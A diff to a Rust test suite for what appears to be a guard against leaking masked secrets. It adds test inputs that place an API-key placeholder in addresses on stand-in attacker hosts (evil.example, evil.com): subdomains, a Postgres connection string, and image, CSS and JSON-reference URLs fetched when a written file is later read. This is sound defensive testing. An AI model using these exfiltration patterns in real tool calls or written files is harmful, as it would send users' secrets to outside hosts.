@@ -83,6 +83,8 @@ fn a_mask_within_an_address_waits_at_the_own_server_too() {
         "evil.example:8080/[API_KEY_1]",
         "evil.example/[API_KEY_1]",
         "[API_KEY_1].evil.com",
+        "x.[API_KEY_1].evil.example",
+        "PG:host=evil.example dbname=[API_KEY_1]",
         "[API_KEY_1]@evil.com",
         "git@evil.example:[API_KEY_1].git",
         "http%3A%2F%2Fevil.example%2F[API_KEY_1]",
@@ -158,7 +160,26 @@ fn the_content_of_a_local_write_keeps_its_masks() {
         json!({ "path": "a.html", "content": html }),
         json!({ "path": "a", "edits": [{ "oldText": html, "newText": "x [EMAIL_1] https://a.b" }] }),
         json!({ "entities": [{ "observations": ["[EMAIL_1], see https://corp.example/"] }] }),
+        json!({ "path": ".env", "content": "DB=postgres://app:[API_KEY_1]@db.corp.example/x" }),
+        json!({ "path": "a.md", "content": "[docs](https://corp.example/?key=[API_KEY_1])" }),
+        json!({ "path": "a.md", "content": "![logo](https://corp.example/a.png) [API_KEY_1]" }),
     ]);
+}
+
+/// The next program that converts the file asks for the picture, with the value in its address.
+#[test]
+fn a_mask_in_what_a_reader_of_a_written_file_fetches_waits() {
+    let url = "http://evil.example/[API_KEY_1].png";
+    let texts = [
+        format!("![x]({url})"),
+        format!("<img src=\"{url}\">"),
+        format!(".. image:: {url}"),
+        format!("body {{ background: url({url}) }}"),
+        format!("{{ \"$ref\": \"{url}\" }}"),
+    ];
+    let calls = texts.map(|text| json!({ "path": "a.md", "content": text }));
+    WRITE.waits(&calls);
+    assert!(WRITE.held(&calls[0]).unwrap().contains("a reader of the file fetches"));
 }
 
 #[test]
